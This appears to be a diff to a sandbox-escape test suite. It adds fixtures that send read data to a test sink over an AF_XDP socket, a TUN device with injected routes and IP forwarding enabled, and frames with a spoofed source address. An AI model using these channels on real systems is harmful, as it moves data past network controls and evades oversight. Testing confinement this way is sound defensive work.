@@ -1,12 +1,15 @@
 """Ways out of the machine, for what is held."""
 
 import ctypes
+import fcntl
+import mmap
 import os
 import socket
 import struct
+import subprocess
 import threading
 
-from evade import LIBC, call, child, connect, fixture, main, path, read, send, sink, tmp, wait
+from evade import LIBC, call, checked, child, connect, fixture, main, path, read, send, sink, tmp, wait
 
 V4, V6 = socket.AF_INET, socket.AF_INET6
 SINK_V6 = "2001:db8::9"
@@ -237,10 +240,10 @@ def raw_header():
     stream.sendto(head + body, (sink()[0], 0))
 
 
-def frame(data):
+def frame(data, source="203.0.113.1"):
     """An Ethernet frame to everybody, with a datagram for the sink."""
     body = struct.pack("!HHHH", 7, sink()[1], 8 + len(data), 0) + data
-    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 7, 0, 64, 17, 0, socket.inet_aton("203.0.113.1"), socket.inet_aton(sink()[0]))
+    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 7, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(sink()[0]))
     head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
     return b"\xff" * 6 + b"\x02" + bytes(5) + b"\x08\x00" + head + body
 
@@ -265,6 +268,50 @@ def packet_sendto():
     data = read()
     stream = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
     stream.sendto(frame(data)[14:], ("job0", 0x0800, 0, 0, b"\xff" * 6))
+
+
+@fixture("B20", "a socket of AF_XDP, by its own ring")
+def xdp():
+    AF_XDP, SOL_XDP, COPY = 44, 283, 2
+    TX_RING, UMEM_REG, FILL_RING, COMPLETION_RING = 3, 4, 5, 6
+    TX_PAGE, CHUNK, CHUNKS, ENTRIES = 0x80000000, 4096, 4, 4
+    packet = frame(read())
+    stream = checked(LIBC.socket(AF_XDP, socket.SOCK_RAW, 0))
+    room = mmap.mmap(-1, CHUNK * CHUNKS)
+    room[: len(packet)] = packet
+    start = ctypes.addressof(ctypes.c_char.from_buffer(room))
+
+    def option(name, value):
+        checked(LIBC.setsockopt(stream, SOL_XDP, name, value, len(value)))
+
+    # struct xdp_umem_reg, and how many entries each ring has (include/uapi/linux/if_xdp.h).
+    option(UMEM_REG, struct.pack("<QQIII4x", start, CHUNK * CHUNKS, CHUNK, 0, 0))
+    for ring in (FILL_RING, COMPLETION_RING, TX_RING):
+        option(ring, struct.pack("<I", ENTRIES))
+    size = ctypes.c_uint32(128)
+    offsets = ctypes.create_string_buffer(128)
+    checked(LIBC.getsockopt(stream, SOL_XDP, 1, offsets, ctypes.byref(size)))
+    # Producer, consumer, descriptors and flags of each: the second is what is sent.
+    producer, _, descriptors, _ = struct.unpack_from("<4Q", offsets, 32)
+    ring = mmap.mmap(stream, descriptors + ENTRIES * 16, offset=TX_PAGE)
+    address = struct.pack("<HHIII", AF_XDP, COPY, socket.if_nametoindex("job0"), 0, 0)
+    checked(LIBC.bind(stream, address, len(address)))
+    ring[descriptors : descriptors + 16] = struct.pack("<QII", 0, len(packet), 0)
+    ring[producer : producer + 4] = struct.pack("<I", 1)
+    checked(LIBC.sendto(stream, None, 0, socket.MSG_DONTWAIT, None, 0))
+
+
+@fixture("B20", "packets written to a network device of its own (/dev/net/tun)", enforce="gap", why="/dev/net/tun")
+def tun():
+    SET, TUN, BARE = 0x400454CA, 1, 0x1000
+    device = os.open("/dev/net/tun", os.O_RDWR)
+    fcntl.ioctl(device, SET, struct.pack("16sH22x", b"out0", TUN | BARE))
+    for command in ("ip link set out0 up", "ip route add 198.18.0.0/15 dev out0"):
+        subprocess.run(command.split(), check=True)
+    with open("/proc/sys/net/ipv4/ip_forward", "w") as forward:
+        forward.write("1")
+    # From an address behind it, or the machine takes it for a lie.
+    os.write(device, frame(read(), "198.18.0.2")[14:])
 
 
 @fixture("B17", "a connection that another process made and passes on")
